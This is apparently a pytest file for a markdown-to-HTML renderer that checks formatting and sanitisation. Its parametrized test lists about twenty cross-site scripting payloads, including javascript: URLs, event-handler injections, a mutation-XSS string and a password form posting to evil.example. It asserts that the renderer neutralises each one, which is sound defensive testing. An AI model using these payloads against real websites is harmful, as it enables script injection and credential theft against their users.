from __future__ import annotations

import re

import pytest

from runtime.markdown import RENDERER_VERSION, render


def test_what_help_pages_are_made_of() -> None:
    rendered = render(
        "# Reset\n\nUse **strong** and ~~old~~ `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "```python\nprint(1)\n```\n\n[site](https://example.com/?a=1&b=2)"
    )
    for part in (
        *("<h1>Reset</h1>", "<strong>strong</strong>", "<s>old</s>", "<code>code</code>", "<ol>", "<td>1</td>"),
        '<pre><code class="language-python">print(1)\n</code></pre>',
        '<a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow">site</a>',
    ):
        assert part in rendered.html
    assert rendered.plain_text == "Reset\nUse strong and old code.\none\ntwo\na\nb\n1\n2\nprint(1)\nsite"
    assert rendered.renderer_version == RENDERER_VERSION


def test_a_picture_becomes_a_link_that_the_reader_may_follow() -> None:
    rendered = render('![the "router"](https://example.com/a.png)')
    assert "<img" not in rendered.html
    assert 'href="https://example.com/a.png"' in rendered.html and rendered.plain_text == 'the "router"'


def test_addresses_in_the_text_are_no_links() -> None:
    assert "<a" not in render("see https://example.com").html


@pytest.mark.parametrize(
    "attack",
    [
        *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b onclick=x>b</b>"),
        *("[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](vbscript:x)"),
        *("[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](javascript:alert(1))", "<javascript:alert(1)>"),
        *(
            "[x](&#106;avascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "[x]: javascript:alert(1)\n\n[x]",
        ),
        '[x](https://e.com "onmouseover=alert(1)")',
        '[x](https://e.com/"onmouseover="alert(1))',
        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        '```"onload="alert(1)\nx\n```',
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form action=https://evil.example><input name=password></form>",
        "<iframe src=https://evil.example></iframe><object data=x></object><style>*{display:none}</style>",
    ],
)
def test_no_attack_survives(attack: str) -> None:
    html = render(attack).html
    tags = re.findall(r"<[^>]*>", html)
    # What is left of an attack is text, or a tag with harmless attributes.
    harmless = re.compile(
        r'</?(p|pre|code|a|table|tr|td|br)( (href="https://[^"<>]*"|title="[^"<>]*"|rel="noopener nofollow"'
        r'|class="language-[^"<> ]*"))*>'
    )
    assert [tag for tag in tags if not harmless.fullmatch(tag)] == []


def test_nesting_without_end_is_cut_off() -> None:
    assert len(render("> " * 5_000 + "x").html) < 1_000_000
